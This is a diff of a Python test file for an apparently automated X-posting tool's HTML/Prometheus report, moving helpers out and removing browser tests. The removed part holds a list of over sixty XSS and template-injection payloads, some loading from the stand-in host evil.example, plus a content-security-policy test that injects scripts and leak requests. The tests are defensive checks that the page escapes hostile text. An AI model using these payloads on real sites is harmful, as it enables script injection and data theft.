@@ -5,12 +5,7 @@ import json
 import os
 import re
 import sqlite3
-import stat
-import threading
-from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
-from html.parser import HTMLParser
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 from prometheus_client.parser import text_string_to_metric_families
@@ -21,54 +16,12 @@ from src.domain.errors import StorageError
 from src.domain.runs import Exit
 from src.system.log import sanitise
 from src.watch.report import measures as report
-from src.watch.report.page import as_html
-from src.watch.report.prometheus import as_prometheus
-from src.watch.report.text import as_text
 from tests import fake_x
-from tests.conftest import need, need_module
-from tests.support.browser import new_browser
-from tests.support.month import simulate
-from tests.support.world import Texts, new_world
-from tests.tick.test_health import small_library
+from tests.support.library import small_library
+from tests.support.report import ATTACKS, HOURS, make, samples
+from tests.support.world import new_world
 
-HOURS = 60
-
-
-@dataclass
-class Made:
-    """A simulated stretch of time and all that was made of it."""
-
-    report: report.Report
-    text: str
-    data: dict
-    numbers: str
-    html: str
-    tweets: list
-    runs: list
-
-
-def make(world, days=30):
-    found = report.read(world.settings, datetime.now(UTC), days)
-    return Made(
-        found,
-        as_text(found, world.settings),
-        json.loads(json.dumps(report.as_data(found, world.settings), default=str)),
-        as_prometheus(found, world.settings),
-        as_html(found, world.settings),
-        list(world.x.accepted),
-        world.rows("SELECT * FROM runs ORDER BY id"),
-    )
-
-
-@pytest.fixture(scope="module")
-def stretch(tmp_path_factory):
-    """Two and a half days with an outage, a power cut, credits used up and lost answers."""
-    folder = tmp_path_factory.mktemp("stretch")
-    with new_world(
-        folder, DAILY_BUDGET_USD="1", MONTHLY_BUDGET_USD="20", **small_library(folder, 800)
-    ) as world:
-        simulate(world, HOURS, composer=Texts())
-        yield make(world)
+pytestmark = pytest.mark.xdist_group("report")  # its fixtures and imports are expensive
 
 
 @pytest.fixture
@@ -184,14 +137,6 @@ def test_spread():
 # ---- Prometheus ----------------------------------------------------------------------------------------------------
 
 
-def samples(text):
-    return {
-        (s.name, tuple(sorted(s.labels.items()))): s.value
-        for family in text_string_to_metric_families(text)
-        for s in family.samples
-    }
-
-
 def test_prometheus_reads_what_was_counted(stretch):
     """The text parses, every series has its help, and the numbers are the report's."""
     found = samples(stretch.numbers)
@@ -234,31 +179,6 @@ def test_prometheus_knows_what_is_wrong(world):
 
 
 # ---- files and the command -------------------------------------------------------------------------------------------
-
-
-def test_files_of_the_command(world, tmp_path):
-    """The page is closed to others, the numbers are open; nothing is printed, and a second run replaces both."""
-    world.warm()
-    page, numbers = tmp_path / "report.html", tmp_path / "twitter.prom"
-    for _ in range(2):
-        done = world.cli("report", "--html", str(page), "--prometheus", str(numbers))
-        assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
-        assert stat.S_IMODE(page.stat().st_mode) == 0o600
-        assert stat.S_IMODE(numbers.stat().st_mode) == 0o644
-    assert page.read_text().startswith("<!doctype html>")
-    assert samples(numbers.read_text())
-    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
-    told = world.cli("report", "--days", "2")
-    assert told.returncode == 0
-    assert "in 2 days" in told.stdout
-    assert json.loads(world.cli("report", "--json").stdout)["days"] == 30
-
-
-def test_a_file_that_cannot_be_written(world, tmp_path):
-    """A folder that is not there: 74 and what to type."""
-    done = world.cli("report", "--html", str(tmp_path / "no" / "report.html"))
-    assert done.returncode == 74
-    assert f"mkdir -p {tmp_path / 'no'}" in done.stderr
 
 
 def test_a_file_is_whole_or_as_it_was(tmp_path):
@@ -322,330 +242,12 @@ def test_ten_thousand_posts(world):
     assert len(make(world, days=365).report.by_day) == 366
 
 
-# ---- the page in a browser -------------------------------------------------------------------------------------------
-
-
-@pytest.fixture(scope="module")
-def browser():
-    need_module("selenium")
-    need("chromium", "chromium")
-    need("chromedriver", "chromium-driver")
-    with new_browser() as made:
-        yield made
-
-
-class Pages(BaseHTTPRequestHandler):
-    """Serves one page and remembers every path that was asked for."""
-
-    def do_GET(self):
-        self.server.asked.append(self.path)
-        body = self.server.page.encode() if self.path == "/" else b""
-        self.send_response(200 if self.path == "/" else 404)
-        self.send_header("Content-Type", "text/html; charset=utf-8")
-        self.send_header("Content-Length", str(len(body)))
-        self.end_headers()
-        self.wfile.write(body)
-
-    def log_message(self, *_):
-        pass
-
-
-@pytest.fixture(scope="module")
-def site():
-    with ThreadingHTTPServer(("127.0.0.1", 0), Pages) as server:
-        server.page, server.asked = "", []
-        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
-        server.url = f"http://127.0.0.1:{server.server_address[1]}/"
-        yield server
-        server.shutdown()
-
-
-def visit(browser, site, html, **look):
-    site.page, site.asked[:] = html, []
-    browser.open(site.url, **look)
-
-
-# Colour contrast as WCAG counts it, of every element that has text of its own against what lies behind it.
-CONTRAST = """
-const parse = c => (c.match(/[\\d.]+/g) || []).map(Number);
-const light = c => { const [r, g, b] = c.map(v => { v /= 255; return v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4 }); return .2126 * r + .7152 * g + .0722 * b };
-const behind = e => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] > 0) return c.slice(0, 3) } return [255, 255, 255] };
-let worst = [99, ''];
-for (const e of document.querySelectorAll('body *')) {
-  if (![...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()) || e.closest('title')) continue;
-  const s = getComputedStyle(e), ink = parse(e.closest('svg') ? s.fill : s.color).slice(0, 3);
-  const [a, b] = [light(ink), light(behind(e))].sort((x, y) => y - x), ratio = (a + .05) / (b + .05);
-  if (ratio < worst[0]) worst = [ratio, e.tagName + '.' + e.className + ': ' + e.textContent.slice(0, 40)];
-}
-return worst;
-"""
-OVERFLOWING = """
-return [...document.querySelectorAll('body *')].filter(e => !e.closest('svg *') && !e.closest('.gaps *') && e.getBoundingClientRect().right > innerWidth + .5)
-  .map(e => e.tagName + '.' + e.className)"""
-
-
-@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
-def test_the_page_is_quiet_and_readable(browser, site, stretch, dark):
-    """Nothing on the console, no request but for the page, all drawings named, text in contrast with what is behind it."""
-    visit(browser, site, stretch.html, dark=dark)
-    assert browser.logs() == []
-    assert browser.requested() == [site.url]
-    assert site.asked == ["/"]
-    assert browser.run("return document.querySelectorAll('figure svg').length") == 7
-    assert (
-        browser.run(
-            "return [...document.querySelectorAll('svg')].filter(s => !(s.getAttribute('aria-label') && s.getAttribute('role') === 'img') && s.ariaHidden !== 'true').length"
-        )
-        == 0
-    )
-    assert (
-        browser.run("return document.querySelectorAll('.pygal-chart .rect, .pygal-chart .dot').length") > 20
-    )
-    ratio, where = browser.run(CONTRAST)
-    assert ratio >= 4.5, where
-
-
-def test_light_and_dark_differ(browser, site, stretch):
-    """The page follows the reader's preference, the drawings too."""
-    seen = []
-    for dark in (False, True):
-        visit(browser, site, stretch.html, dark=dark)
-        seen.append(
-            browser.run(
-                "return ['body', '.card', '.map .is-posted', '.pygal-chart text'].map(q => { const s = getComputedStyle(document.querySelector(q)); return s.backgroundColor + s.fill })"
-            )
-        )
-    assert all(one != other for one, other in zip(*seen, strict=True)), seen
-
-
-@pytest.mark.parametrize("width", [320, 360, 768])
-def test_no_horizontal_scrolling(browser, site, stretch, width):
-    """On a phone nothing reaches beyond the edge."""
-    visit(browser, site, stretch.html, width=width)
-    assert browser.run("return document.documentElement.scrollWidth") <= width
-    assert browser.run(OVERFLOWING) == []
-
-
-def test_labels_can_be_read_on_a_phone(browser, site, stretch):
-    """Letters in the drawings are at least nine pixels high on a phone, and those along an axis do not run into each other."""
-    visit(browser, site, stretch.html, width=360)
-    sizes = browser.run(
-        "return [...document.querySelectorAll('svg text')].map(t => parseFloat(getComputedStyle(t).fontSize) * t.getScreenCTM().a)"
-    )
-    assert min(sizes) >= 9
-    collisions = browser.run("""
-      const found = [];
-      for (const axis of document.querySelectorAll('.axis.x')) {
-        const boxes = [...axis.querySelectorAll('text')].map(t => t.getBoundingClientRect()).sort((a, b) => a.left - b.left);
-        boxes.forEach((b, n) => { if (n && b.left < boxes[n - 1].right + 2) found.push([n, b.left]) });
-      }
-      return found""")
-    assert collisions == []
-
-
-def test_the_policy_holds(browser, site, stretch):
-    """Even what finds its way into the page could not run, load or send anything: the policy forbids it."""
-    visit(browser, site, stretch.html)
-    browser.run("""
-      const put = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
-      put('script', {textContent: 'window.hacked = 1'}); put('img', {src: '/leak.png'}); put('iframe', {src: '/leak'}); put('script', {src: '/leak.js'});
-      document.body.insertAdjacentHTML('beforeend', '<b id=styled style="color: red">x</b><a id=trap onclick="window.hacked = 2">x</a><form id=out action="/leak"></form>');
-      document.querySelector('#trap').click(); document.querySelector('#out').submit();
-      fetch('/leak').catch(() => 0)""")
-    complaints = "".join(browser.logs())
-    assert complaints.count("Content Security Policy") >= 6
-    assert browser.run("return window.hacked") is None
-    assert browser.run("return getComputedStyle(document.querySelector('#styled')).color") != "rgb(255, 0, 0)"
-    assert site.asked == ["/"]
-
-
 # ---- hostile texts ---------------------------------------------------------------------------------------------------
-
-ATTACKS = [
-    "<script>window.hacked=1</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=window.hacked=1>",
-    "<svg onload=window.hacked=1>",
-    "<svg><script>window.hacked=1</script></svg>",
-    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
-    "<iframe src=javascript:window.hacked=1>",
-    "<body onload=window.hacked=1>",
-    "<input autofocus onfocus=window.hacked=1>",
-    "<details open ontoggle=window.hacked=1>",
-    "<video><source onerror=window.hacked=1></video>",
-    "<audio src=x onerror=window.hacked=1>",
-    "<marquee onstart=window.hacked=1>",
-    "<object data=javascript:window.hacked=1>",
-    "<embed src=//evil.example/x.swf>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>*{display:none}</style>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<form action=//evil.example><button>go</button></form>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
-    "<a href=javascript:window.hacked=1>x</a>",
-    '"><script>window.hacked=1</script>',
-    "'><script>window.hacked=1</script>",
-    '" onmouseover="window.hacked=1',
-    "' onmouseover='window.hacked=1",
-    "` onmouseover=`window.hacked=1",
-    "</title><script>window.hacked=1</script>",
-    "</style><script>window.hacked=1</script>",
-    "</textarea><script>window.hacked=1</script>",
-    "</svg><script>window.hacked=1</script>",
-    "</script><script>window.hacked=1</script>",
-    "--><script>window.hacked=1</script>",
-    "<!--<img src='--><img src=x onerror=window.hacked=1>'>",
-    "]]><script>window.hacked=1</script>",
-    "<![CDATA[<script>window.hacked=1</script>]]>",
-    "<?xml version='1.0'?><script>window.hacked=1</script>",
-    "{{ 7 * 7 }}",
-    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
-    "{{ config }}",
-    "${7*7}",
-    "#{7*7}",
-    "<%= 7*7 %>",
-    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
-    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
-    "&#x3c;img src=x onerror=window.hacked=1&#x3e;",
-    "javascript:window.hacked=1",
-    "data:text/html,<script>window.hacked=1</script>",
-    "vbscript:msgbox(1)",
-    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
-    "<scr\x00ipt>window.hacked=1</scr\x00ipt>",
-    "<img/src=x/onerror=window.hacked=1>",
-    "<img\tsrc=x\tonerror=window.hacked=1>",
-    "<svg/onload=window.hacked=1//",
-    "<x onclick=window.hacked=1>click",
-    "<a style=position:fixed;inset:0 href=//evil.example>",
-    "\u202e<script>gnp.1=dekcah</script>",
-    "\u2028<script>window.hacked=1</script>",
-    "\ufeff<script>window.hacked=1</script>",
-    "＜script＞window.hacked=1＜/script＞",
-    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
-    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
-    "<" * 300,
-    "A" * 3000,
-    "<template><script>window.hacked=1</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
-]
-
-
-def poison(world, words):
-    """Put texts into every field that the page shows, as X's answers, a model, a person or another program might."""
-    with contextlib.closing(sqlite3.connect(world.database)) as db:
-        for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
-            db.execute(f"DROP TRIGGER {name}")
-        newest = db.execute(
-            "SELECT id FROM posts WHERE sent_at IS NOT NULL ORDER BY sent_at DESC LIMIT ?", (len(words),)
-        ).fetchall()
-        runs = db.execute(
-            "SELECT id, slot FROM runs WHERE outcome = 'posted' ORDER BY id DESC LIMIT ?", (len(words),)
-        ).fetchall()
-        assert len(newest) == len(runs) == len(words)
-        for number, (word, (post,), (run, slot)) in enumerate(zip(words, newest, runs, strict=True)):
-            db.execute("UPDATE posts SET slot = NULL WHERE slot = ?", (slot,))
-            db.execute(
-                "UPDATE posts SET content = ?, topic = ?, error_message = ?, vanished_at = 1 WHERE id = ?",
-                (word, word, word, post),
-            )
-            db.execute("UPDATE runs SET outcome = ?, message = ? WHERE id = ?", (word, word, run))
-            db.execute("DELETE FROM attempts WHERE slot = ?", (slot,))
-            if number % 2:  # the cause of every second gap is what X said, of the others how the run ended
-                db.execute(
-                    "INSERT INTO attempts(post_id, started, slot, outcome, http_status, reason, latency_ms, run_id)"
-                    " VALUES (?, (SELECT started FROM runs WHERE id = ?), '', ?, 400, ?, 5, 'x')",
-                    (post, run, word, word),
-                )
-            db.execute(
-                "INSERT INTO candidates(run_id, created_at, source_id, opening, score, reasons) VALUES ('x', (SELECT max(started) FROM runs), 's', ?, 0, ?)",
-                (word, word.replace(",", "")),
-            )
-            db.execute(
-                "INSERT INTO spending(at, kind, units, usd) VALUES ((SELECT max(at) FROM spending), ?, 1, 0.001)",
-                (word,),
-            )
-        hold = {"kind": "blocked", "reason": words[0], "until": None, "fix": words[1], "count": 3, "since": 0}
-        limits = [[word, 100, 7, 4e9] for word in words[:3]]
-        last = db.execute("SELECT max(id), metrics FROM runs").fetchone()
-        db.execute(
-            "UPDATE runs SET metrics = ? WHERE id = ?",
-            (
-                json.dumps({**json.loads(last[1]), **{f"{word}-left-share": 0.5 for word in words[:3]}}),
-                last[0],
-            ),
-        )
-        db.execute(
-            "INSERT OR REPLACE INTO meta VALUES ('hold', ?), ('limits', ?)",
-            (json.dumps(hold), json.dumps(limits)),
-        )
-        db.commit()
-
-
-class Skeleton(HTMLParser):
-    """The elements of a page with the names of their attributes: what must not depend on the texts in it."""
-
-    def __init__(self, html):
-        super().__init__()
-        self.seen = []
-        self.feed(html)
-
-    def handle_starttag(self, tag, attributes):
-        self.seen.append((tag, *(name for name, _ in attributes)))
-
-
-@pytest.fixture(scope="module")
-def hostile(tmp_path_factory):
-    """Pages with twenty attacks each in every field, and the same page with harmless words."""
-    size = 17
-    folder = tmp_path_factory.mktemp("hostile")
-    with new_world(folder, **small_library(folder, 200)) as world:
-        world.warm()
-        for _ in range(size):
-            world.tick()
-            world.next_slot()
-        clean = world.database.read_bytes()
-        groups = [ATTACKS[n : n + size] for n in range(0, len(ATTACKS), size)]
-        pages = []
-        for words in (*groups, [f"harmless word {n}" for n in range(size)]):
-            world.database.write_bytes(clean)
-            poison(world, (words + ["padding"] * size)[:size])
-            pages.append((words, make(world)))
-        yield pages[:-1], pages[-1][1]
 
 
 def test_enough_attacks():
     """At least fifty, all different."""
     assert len(set(ATTACKS)) >= 50
-
-
-def test_attacks_are_text(browser, site, hostile):
-    """Whatever stands in posts, topics, errors, causes, gates, limits or holds is shown as text, and nothing runs, loads or appears."""
-    pages, harmless = hostile
-    plain = {tag for tag in Skeleton(harmless.html).seen}
-    for words, made in pages:
-        assert set(Skeleton(made.html).seen) <= plain
-        visit(browser, site, made.html, width=360)
-        assert browser.logs() == []
-        assert site.asked == ["/"]
-        assert browser.run("return window.hacked") is None
-        tags = set(browser.run("return [...document.querySelectorAll('*')].map(e => e.localName)"))
-        assert tags <= {tag for tag, *_ in plain}
-        assert not browser.run(
-            "return [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')).length"
-        )
-        links = browser.run(
-            "return [...document.querySelectorAll('[href], [src]')].map(e => e.getAttribute('href') || e.getAttribute('src'))"
-        )
-        assert all(re.fullmatch(r"https://x\.com/i/web/status/\d+", link) for link in links)
-        assert browser.run("return document.documentElement.scrollWidth") <= 360
-        shown = " ".join(browser.run("return document.querySelector('.posts').innerText").split())
-        causes = " ".join(browser.run("return document.querySelector('.gaps').textContent").split())
-        for word in words:
-            assert " ".join(" ".join(map(sanitise, word.splitlines())).split()) in shown, word
-            assert " ".join(sanitise(word[:160]).split()) in causes, word
-        answers = " ".join(browser.run("return document.body.textContent").split())
-        assert all(" ".join(sanitise(f"400 {word}").split()) in answers for word in words[1::2])
 
 
 def test_attacks_in_text_and_numbers(hostile):
